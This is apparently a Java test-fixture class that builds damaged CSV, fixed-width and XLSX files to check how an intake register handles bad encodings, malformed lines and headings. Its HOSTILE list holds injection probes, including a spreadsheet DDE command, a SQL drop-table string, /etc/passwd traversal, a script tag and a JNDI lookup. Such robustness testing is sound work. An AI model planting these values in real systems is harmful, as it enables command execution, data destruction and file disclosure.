package org.qingce.intake;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.qingce.intake.Damage.Fate.ACCOUNTED;
import static org.qingce.intake.Damage.Fate.NO_RECORDS;
import static org.qingce.intake.Damage.Fate.ONE_REJECTED;
import static org.qingce.intake.Damage.Fate.REFUSED;
import static org.qingce.intake.Damage.Fate.TAKEN;
import static org.qingce.intake.IntakeBench.GB18030;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.function.Function;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/** What happens to files between the department that exports them and the register that takes them in. */
final class Damages {

    private static final int THIRD = 2;
    private static final int TEN_MEGABYTES = 10 << 20;
    private static final int ONE_MEGABYTE = 1 << 20;

    /** Values for which some program further down might do other than store them. */
    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://a\")",
            "+cmd|' /C calc'!A0",
            "'; drop table mention; --",
            "../../../etc/passwd",
            "<script>alert(1)</script>",
            "${jndi:ldap://a/b}",
            "%s%n%x",
            "\u202Eeman",
            "𠮷𪚥",
            "\\N",
            "null");

    private static final List<String> IMPOSSIBLE_DAYS = List.of(
            "20260230",
            "19000229",
            "99999999",
            "00000000",
            "-1",
            "2026-13-01",
            "1e9",
            "３０２６０１０１",
            "9".repeat(12),
            "今天");

    private Damages() {}

    static List<Damage> all() {
        return Stream.of(encodings(), lines(), headings(), values(), fixedWidth(), workbooks())
                .flatMap(List::stream)
                .toList();
    }

    private static List<Damage> encodings() {
        return List.of(
                csv("utf-8", extract -> extract.text(",").getBytes(UTF_8), TAKEN),
                csv("gb18030", extract -> extract.text(",").getBytes(GB18030), TAKEN),
                csv("utf-8-mark", extract -> ("\uFEFF" + extract.text(",")).getBytes(UTF_8), TAKEN),
                csv("gb18030-mark", extract -> ("\uFEFF" + extract.text(",")).getBytes(GB18030), TAKEN),
                csv("utf-16", extract -> ("\uFEFF" + extract.text(",")).getBytes(UTF_16LE), REFUSED),
                csv("utf-16-without-mark", extract -> extract.text(",").getBytes(UTF_16LE), REFUSED),
                csv("utf-8-line-among-gb18030", extract -> inTwo(extract, GB18030, UTF_8), ACCOUNTED),
                csv("gb18030-line-among-utf-8", extract -> inTwo(extract, UTF_8, GB18030), ONE_REJECTED),
                csv("half-utf-8-half-gb18030", Damages::halved, REFUSED),
                csv("no-character-gb18030", extract -> planted(extract, GB18030, "8437a439"), ONE_REJECTED),
                csv("beyond-unicode-gb18030", extract -> planted(extract, GB18030, "e3329a36"), ONE_REJECTED),
                csv("surrogate-utf-8", extract -> planted(extract, UTF_8, "eda080"), ONE_REJECTED),
                csv("overlong-utf-8", extract -> planted(extract, UTF_8, "c080"), ONE_REJECTED),
                csv("nul", extract -> planted(extract, UTF_8, "00"), ONE_REJECTED));
    }

    private static List<Damage> lines() {
        return List.of(
                csv("cut-within-a-line", extract -> cut(extract.text(",").getBytes(UTF_8), 30), ONE_REJECTED),
                csv("cut-within-a-character", Damages::cutWithinACharacter, ONE_REJECTED),
                csv(
                        "line-of-ten-megabytes",
                        extract -> text(extract, line -> line + "x".repeat(TEN_MEGABYTES)),
                        ONE_REJECTED),
                csv(
                        "value-too-few",
                        extract -> text(extract, line -> line.substring(0, line.lastIndexOf(','))),
                        ONE_REJECTED),
                csv("value-too-many", extract -> text(extract, line -> line + ",1"), ONE_REJECTED),
                csv("empty-value-too-many", extract -> text(extract, line -> line + ","), TAKEN),
                csv("open-quote", extract -> text(extract, line -> "\"" + line), ONE_REJECTED),
                csv("text-after-a-quote", extract -> text(extract, line -> "\"a\"" + line), ONE_REJECTED),
                csv(
                        "carriage-returns",
                        extract -> extract.text(",").replace('\n', '\r').getBytes(UTF_8),
                        TAKEN),
                csv("mixed-line-ends", extract -> text(extract, line -> line + "\r"), TAKEN),
                csv("blank-lines", extract -> ("\n \n" + extract.text(",") + "\n\n\u001A").getBytes(UTF_8), TAKEN),
                new Damage("tabs", "tsv", extract -> extract.text("\t").getBytes(GB18030), TAKEN),
                csv("semicolons", extract -> extract.text(";").getBytes(UTF_8), TAKEN),
                csv("bars", extract -> extract.text("|").getBytes(GB18030), TAKEN));
    }

    private static List<Damage> headings() {
        return List.of(
                csv(
                        "no-headings",
                        extract -> String.join("\n", extract.lines(",").subList(1, SourceExtract.ROWS))
                                .getBytes(UTF_8),
                        REFUSED),
                csv("headings-shuffled", extract -> extract.reversed().text(",").getBytes(UTF_8), TAKEN),
                csv(
                        "heading-unknown",
                        extract -> extract.and("备用一", "x").text(",").getBytes(UTF_8),
                        TAKEN),
                csv(
                        "heading-doubled",
                        extract -> extract.and(extract.headings().get(1), "x")
                                .text(",")
                                .getBytes(UTF_8),
                        REFUSED),
                csv(
                        "heading-missing",
                        extract -> extract.withoutARequiredColumn().text(",").getBytes(UTF_8),
                        REFUSED),
                csv(
                        "headings-again",
                        extract -> text(
                                extract,
                                line -> line + "\n" + extract.lines(",").get(0)),
                        TAKEN),
                csv("headings-with-open-quote", extract -> ("\"" + extract.text(",")).getBytes(UTF_8), REFUSED),
                csv(
                        "headings-of-a-megabyte",
                        extract -> ("x".repeat(ONE_MEGABYTE) + extract.text(",")).getBytes(UTF_8),
                        REFUSED),
                csv(
                        "headings-by-thousands",
                        extract -> (",a".repeat(5000) + "\n" + extract.text(",")).getBytes(UTF_8),
                        REFUSED),
                csv("headings-alone", extract -> (extract.lines(",").get(0) + "\n").getBytes(UTF_8), NO_RECORDS),
                csv("empty", extract -> new byte[0], REFUSED),
                csv("blank", extract -> "\n \n,,\n".getBytes(UTF_8), REFUSED),
                csv("of-another-kind", extract -> "\u001B]0;a\u0007,b,c\n1,2,3\n".getBytes(UTF_8), REFUSED),
                csv("workbook", SourceExtract::workbook, REFUSED),
                csv(
                        "packed",
                        extract -> HexFormat.of()
                                .parseHex("1f8b0800000000000003cb48cdc9c95728cf2fca49010085114a0d0b000000"),
                        REFUSED));
    }

    private static List<Damage> values() {
        return List.of(
                csv("hostile-values", extract -> hostile(extract).text(",").getBytes(UTF_8), TAKEN),
                csv(
                        "impossible-days",
                        extract -> impossibleDays(extract).text(",").getBytes(UTF_8),
                        TAKEN),
                csv(
                        "control-characters",
                        extract -> extract.with(THIRD, "name", "标\u0001记\u001B[31m\u0007\u0085\u200B")
                                .text(",")
                                .getBytes(UTF_8),
                        TAKEN),
                csv(
                        "nothing-but-blanks",
                        extract -> text(extract, line -> " ".repeat(3) + line.replaceAll("[^,]", " ") + "\u3000"),
                        TAKEN),
                csv(
                        "long-names",
                        extract -> extract.with(THIRD, "name", "标".repeat(1 << 13))
                                .text(",")
                                .getBytes(UTF_8),
                        TAKEN),
                csv(
                        "long-days",
                        extract -> extract.with(THIRD, "date", "\\".repeat(20_000))
                                .text(",")
                                .getBytes(UTF_8),
                        TAKEN),
                csv(
                        "name-of-a-megabyte",
                        extract -> extract.with(THIRD, "name", "标".repeat(1 << 18))
                                .text(",")
                                .getBytes(GB18030),
                        ONE_REJECTED));
    }

    private static List<Damage> fixedWidth() {
        return List.of(
                txt("gb18030", lines -> lines, TAKEN),
                txt(
                        "line-too-short",
                        third(line -> joined(Arrays.copyOf(line, 7), "\n".getBytes(UTF_8))),
                        ONE_REJECTED),
                txt("line-too-long", third(line -> joined(cut(line, 1), "x\n".getBytes(UTF_8))), ONE_REJECTED),
                txt("line-of-a-megabyte", third(line -> joined(new byte[ONE_MEGABYTE], line)), ONE_REJECTED),
                txt(
                        "cut-within-a-line",
                        lines -> last(lines, line -> Arrays.copyOf(line, line.length / 2)),
                        ONE_REJECTED),
                txt("nul", third(line -> changed(line, 3, (byte) 0)), ONE_REJECTED),
                txt("half-a-character", third(line -> changed(line, 3, (byte) 0xFF)), ONE_REJECTED),
                txt(
                        "line-ends-missing",
                        lines -> List.of(
                                joined(lines.stream().map(line -> cut(line, 1)).toArray(byte[][]::new))),
                        ACCOUNTED),
                new Damage("delimited", "txt", extract -> extract.text(";").getBytes(GB18030), ACCOUNTED),
                new Damage("workbook", "txt", SourceExtract::workbook, REFUSED),
                new Damage("utf-16", "txt", extract -> ("\uFEFF" + extract.text(",")).getBytes(UTF_16LE), REFUSED));
    }

    private static List<Damage> workbooks() {
        return List.of(
                xlsx("right", extract -> extract, TAKEN),
                xlsx("headings-shuffled", SourceExtract::reversed, TAKEN),
                xlsx(
                        "heading-doubled",
                        extract -> extract.and(extract.headings().get(1), "x"),
                        REFUSED),
                xlsx("heading-missing", SourceExtract::withoutARequiredColumn, REFUSED),
                xlsx(
                        "headings-alone",
                        extract -> new SourceExtract(extract.source(), extract.headings(), List.of()),
                        NO_RECORDS),
                xlsx(
                        "no-headings",
                        extract -> new SourceExtract(
                                extract.source(), extract.rows().get(0), extract.rows()),
                        REFUSED),
                xlsx("no-rows", extract -> new SourceExtract(extract.source(), List.of(), List.of()), REFUSED),
                xlsx("value-too-many", extract -> extract.with(THIRD, row -> append(row, "x")), ONE_REJECTED),
                xlsx(
                        "value-of-a-megabyte",
                        extract -> extract.with(THIRD, row -> replaced(row, "x".repeat(1_000_000))),
                        ONE_REJECTED),
                xlsx("hostile-values", Damages::hostile, TAKEN),
                xlsx("impossible-days", Damages::impossibleDays, TAKEN),
                new Damage("cut", "xlsx", extract -> Arrays.copyOf(extract.workbook(), 900), REFUSED),
                new Damage("delimited", "xlsx", extract -> extract.text(",").getBytes(UTF_8), REFUSED),
                new Damage("of-1997", "xlsx", extract -> HexFormat.of().parseHex("d0cf11e0a1b11ae1"), REFUSED),
                new Damage("empty", "xlsx", extract -> new byte[0], REFUSED));
    }

    private static Damage csv(String name, Function<SourceExtract, byte[]> bytes, Damage.Fate fate) {
        return new Damage(name, "csv", bytes, fate);
    }

    private static Damage xlsx(String name, UnaryOperator<SourceExtract> change, Damage.Fate fate) {
        return new Damage(name, "xlsx", extract -> change.apply(extract).workbook(), fate);
    }

    private static Damage txt(String name, UnaryOperator<List<byte[]>> change, Damage.Fate fate) {
        return new Damage(
                name,
                "txt",
                extract -> joined(change.apply(extract.fixed(GB18030)).toArray(byte[][]::new)),
                fate);
    }

    /** The third record of fixed width made another. */
    private static UnaryOperator<List<byte[]>> third(UnaryOperator<byte[]> change) {
        return lines -> changed(lines, THIRD, change);
    }

    private static List<byte[]> last(List<byte[]> lines, UnaryOperator<byte[]> change) {
        return changed(lines, lines.size() - 1, change);
    }

    private static List<byte[]> changed(List<byte[]> lines, int line, UnaryOperator<byte[]> change) {
        var changed = new ArrayList<>(lines);
        changed.set(line, change.apply(lines.get(line)));
        return changed;
    }

    private static byte[] changed(byte[] line, int at, byte value) {
        byte[] changed = line.clone();
        changed[at] = value;
        return changed;
    }

    /** Delimited text with its third record made another. */
    private static byte[] text(SourceExtract extract, UnaryOperator<String> change) {
        List<String> lines = extract.lines(",");
        lines.set(THIRD + 1, change.apply(lines.get(THIRD + 1)));
        return (String.join("\n", lines) + "\n").getBytes(UTF_8);
    }

    /** Delimited text with its third record in another charset than the rest. */
    private static byte[] inTwo(SourceExtract extract, Charset most, Charset third) {
        var bytes = new ByteArrayOutputStream();
        List<String> lines = extract.lines(",");
        for (int line = 0; line < lines.size(); line++) {
            bytes.writeBytes((lines.get(line) + "\n").getBytes(line == THIRD + 1 ? third : most));
        }
        return bytes.toByteArray();
    }

    /** Two files of two systems, one behind the other. */
    private static byte[] halved(SourceExtract extract) {
        String text = SourceExtract.of(extract.source(), 100).text(",");
        return joined(text.getBytes(UTF_8), text.getBytes(GB18030));
    }

    /** Delimited text with these bytes at the start of its third record. */
    private static byte[] planted(SourceExtract extract, Charset charset, String hex) {
        List<String> lines = extract.lines(",");
        String before = String.join("\n", lines.subList(0, THIRD + 1)) + "\n";
        String after = String.join("\n", lines.subList(THIRD + 1, lines.size())) + "\n";
        return joined(before.getBytes(charset), HexFormat.of().parseHex(hex), after.getBytes(charset));
    }

    private static byte[] cut(byte[] bytes, int fewer) {
        return Arrays.copyOf(bytes, bytes.length - fewer);
    }

    /** In UTF-8, within the last name of the last record. */
    private static byte[] cutWithinACharacter(SourceExtract extract) {
        String text = extract.text(",");
        return cut(text.substring(0, text.lastIndexOf(SourceExtract.NAME) + 2).getBytes(UTF_8), 1);
    }

    private static SourceExtract hostile(SourceExtract extract) {
        SourceExtract hostile = extract;
        for (int row = 0; row < HOSTILE.size(); row++) {
            String value = HOSTILE.get(row).replace("\"", "'");
            hostile = hostile.with(row, values -> new ArrayList<>(Collections.nCopies(values.size(), value)));
        }
        return hostile;
    }

    private static SourceExtract impossibleDays(SourceExtract extract) {
        SourceExtract impossible = extract;
        for (int row = 0; row < IMPOSSIBLE_DAYS.size(); row++) {
            for (String field : List.of("date", "updated_on", "registered_on", "away_since")) {
                impossible =
                        impossible.with(row, field, IMPOSSIBLE_DAYS.get(row).toLowerCase(Locale.ROOT));
            }
        }
        return impossible;
    }

    private static List<String> append(List<String> values, String value) {
        values.add(value);
        return values;
    }

    private static List<String> replaced(List<String> values, String value) {
        values.set(0, value);
        return values;
    }

    private static byte[] joined(byte[]... parts) {
        var bytes = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            bytes.writeBytes(part);
        }
        return bytes.toByteArray();
    }
}
